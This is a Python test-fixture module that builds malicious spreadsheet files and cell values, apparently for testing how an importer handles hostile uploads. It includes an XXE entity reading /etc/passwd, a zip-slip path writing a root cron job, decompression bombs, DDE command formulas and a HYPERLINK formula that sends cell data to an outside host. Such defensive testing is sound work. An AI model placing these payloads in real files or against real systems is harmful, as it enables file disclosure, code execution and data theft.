"""Tables that somebody made to fill a memory or a disk, to be read as something else, or to run where they are opened."""

import gzip
import io
import zipfile
from collections.abc import Mapping
from functools import cache

SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{}"/>'
    '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
)
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><sst>&c;</sst>'
)
LOCKED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)
"""How a spreadsheet with a password begins."""
FORMULAS = (
    '=HYPERLINK("http://example.cn/?"&A1,"1-101")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", '="1-101"', "=1;=2", "+86 137 0000 1111", "-", "=",
)  # fmt: skip
"""What a spreadsheet would run, or take for a number, where it stands first in a cell."""


def spreadsheet(parts: Mapping[str, str | bytes] | None = None, area: str = "A1") -> bytes:
    """An XLSX file of one cell, with other parts besides."""
    own: dict[str, str | bytes] = {"[Content_Types].xml": TYPES, "xl/worksheets/sheet1.xml": SHEET.format(area)}
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in (own | dict(parts or {})).items():
            file.writestr(name, content)
    return made.getvalue()


@cache
def spreadsheets() -> dict[str, bytes]:
    """Some that hurt who unpacks or parses them."""
    return {
        "plain": spreadsheet(),
        "that unpacks to 50 MB": spreadsheet({"xl/sharedStrings.xml": b"<sst>" + b" " * 50_000_000}),
        "with entities": spreadsheet({"xl/sharedStrings.xml": ENTITIES}),
        "of a million rows and columns, it says": spreadsheet(area="A1:XFD1048576"),
        "of very many texts": spreadsheet({"xl/sharedStrings.xml": "<sst>" + "<si><t/></si>" * 1_000_000 + "</sst>"}),
        "that leaves its folder": spreadsheet({"../../../etc/cron.d/x": "* * * * * root true", "/tmp/x": "x"}),
        "with a password": LOCKED,
        "within another": spreadsheet(
            {"xl/embeddings/one.xlsx": spreadsheet({"xl/embeddings/two.xlsx": spreadsheet()})}
        ),
    }


def disguised(table: str) -> dict[str, bytes]:
    """A table of units in encodings that are not ours."""
    return {
        "UTF-16": table.encode("utf-16"),
        "UTF-16 without its mark": table.encode("utf-16-le"),
        "UTF-16 the other way round": b"\xfe\xff" + table.encode("utf-16-be"),
        "UTF-32": table.encode("utf-32"),
        "UTF-7 mark": b"+/v8-" + table.encode("utf-7"),
        "EBCDIC": table.encode("cp500", "replace"),
        "halves of pairs": table.encode() + b"\xed\xa0\xbd\xed\xb8\x80\xff",
        "longer than it need be": table.encode().replace(b",", b"\xc0\xac"),
        "two marks": b"\xef\xbb\xbf" * 2 + table.encode(),
        "packed": gzip.compress(table.encode()),
        "a page": b"<html><table><tr><td>" + table.encode(),
    }
